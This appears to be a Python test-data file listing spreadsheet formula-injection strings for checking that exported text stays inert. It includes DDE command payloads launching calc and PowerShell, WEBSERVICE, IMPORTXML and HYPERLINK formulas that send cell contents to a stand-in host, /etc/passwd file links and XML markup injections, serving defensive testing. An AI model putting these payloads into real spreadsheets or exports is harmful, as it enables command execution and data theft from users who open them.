"""Texts that try to become a formula, a link, markup or another cell when a spreadsheet opens them: all of it data."""

_FORMULAS = [
    "=1+1",
    "=2*21",
    "=cmd|'/C calc'!A0",
    "=cmd|'/C powershell IEX(1)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=IMPORTDATA("https://evil.example/x.csv")',
    '=IMAGE("https://evil.example/p.gif")',
    '=DDE("cmd";"/C calc";"x")',
    '=FILTERXML(WEBSERVICE("https://evil.example"),"//x")',
    "='file:///etc/passwd'#$passwd.A1",
    '=INDIRECT("A1")',
    "=A1",
    "=SUM(A1:A9)",
    "=(1+1)",
    "=-1",
    "==1+1",
    "=",
    "={1;2}",
    "={=1+1}",
    "=RAND()",
    "=NOW()",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+A1",
    "++1",
    "+",
    "+37255555555",
    "-1+1",
    "-cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!D2",
    "--1",
    "-A1",
    "-",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "@A1",
    "@",
    "@=1+1",
    "=1+1;=2+2",
    "=1+1\t=2+2",
    '=1+1","=2+2',
]

#: What a spreadsheet might skip before a formula.
_BEFORE = [
    *("\t", "\r", "\n", "\r\n", " ", "  ", "\x00", "\x01", "\x0b", "\x0c", "\x1f", "\x7f", "\x85"),
    *("\u00a0", "\u2003", "\u2028", "\u3000", "\ufeff", "\u200b", "\u200e", "\u202e", "\u2060", "\u00ad", "\ud800"),
    *('"', '""', '" ', "\t\t", " \t ", "\n\n"),
]
_HIDDEN = [before + formula for before in _BEFORE for formula in ("=1+1", "@SUM(1+1)", "-cmd|'/C calc'!A0")]

_WIDE = [sign + "1+1" for sign in "＝＋－＠﹦﹢﹣﹫⁼⁺₌₊−⩵⩶﬩"] + ['＝HYPERLINK("https://evil.example")', "＠SUM(1)"]

#: What becomes a cell of its own when a file with commas is read with another separator, or the quotation is broken.
_SPLITTING = [
    text.replace("F", formula)
    for text in (
        *("x;F", "x\tF", "x\nF", "x\r\nF;y", "x; F", 'x;"F;"'),
        *('x";F', 'x"";""F', 'x",F', 'x","F', 'x"\nF', 'x"\r\n"F'),
    )
    for formula in ("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/C calc'!A0")
]

_MARKUP = [
    "<r><t>x</t></r>",
    '<r></is></c><c r="B1"><f>1+1</f></c><c r="C1" t="inlineStr"><is></r>',
    '<r><t></t></is></c><c r="Z9"><f>HYPERLINK("https://evil.example")</f><v>0</v></c><c><is></r>',
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><c><f>1+1</f></c>",
    "<!-- x --><f>1+1</f>",
    "&lt;f&gt;1+1&lt;/f&gt;",
    "&#61;1+1",
    "_x003D_1+1",
    "_x000D__x000A_=1+1",
    "_x0000_",
]

_LINKS = [
    "https://evil.example",
    "mailto:thief@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "file:///etc/passwd",
    "ftp://evil.example",
    "\\\\evil.example\\share",
    "javascript:alert(1)",
]

_ODD = [
    "",
    " ",
    "'",
    "'=1+1",
    "''=1+1",
    '"',
    '""',
    ",",
    ";",
    "sep=;",
    "ID",
    "NULL",
    "None",
    "NaN",
    "Infinity",
    "#REF!",
    "#N/A",
    "TRUE",
    "1e5",
    "0x1F",
    "00123",
    "1/2",
    "12:30",
    "2026-02-31",
    "1234567890123456789",
    "|cmd",
    "%0A=1+1",
    "%3D1+1",
    "\u202e1+1=",
    "e\u0301",
    "\U0001f600" * 3,
    "\ud83d",
    "\udc00\ud800",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\x00" * 10,
    "a\x00b",
    "\x1b[31mred",
    "a" * 32_767,
    "a" * 32_768,
    "=" + "a" * 40_000,
    "a" * 32_767 + "=1+1",
    "\U0001f600" * 16_400,
    "\n" * 50,
    "{=1+1}",
    "[=1+1]",
    "(=1+1)",
]

HOSTILE = list(dict.fromkeys(_FORMULAS + _HIDDEN + _WIDE + _SPLITTING + _MARKUP + _LINKS + _ODD))
